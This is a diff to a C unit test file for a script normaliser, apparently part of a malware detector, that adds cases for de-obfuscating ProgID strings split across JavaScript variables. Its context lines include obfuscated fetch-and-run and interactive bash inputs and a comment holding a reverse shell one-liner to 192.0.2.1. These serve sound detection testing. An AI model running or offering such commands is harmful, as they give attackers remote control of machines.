@@ -66,6 +66,12 @@ static void test_wsh_and_shell(void **state)
         expect_norm("x = ['ADO','DB.St','ream'].join('')", "x = \"adodb.stream\"");
         expect_norm("WScript[\"CreateObject\"]('x')", "wscript.createobject('x')");
         expect_norm("a[0] + b['x y'] + c[\"k\"]", "a[0] + b['x y'] + c.k");
+        /* a name given one short literal once is that literal: droppers spell ProgIDs across
+         * variables; a name assigned again, a member or a key of the same name is left */
+        expect_norm("a = \"WScr\"; var b = \"ipt\";\nx = a + b + \".Shell\"",
+                    "a = \"wscr\"; var b = \"ipt\";\nx = \"wscript.shell\"");
+        expect_norm("a = 'x'; a = 'y'; f(a + 'b'+'c')", "a = 'x'; a = 'y'; f(a + 'bc')");
+        expect_norm("a = 'q';\no = {a: 1}; o.a + a", "a = 'q';\no = {a: 1}; o.a + 'q'");
         expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
         expect_norm("$'\\x62\\x61sh' -i", "bash -i");
         /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
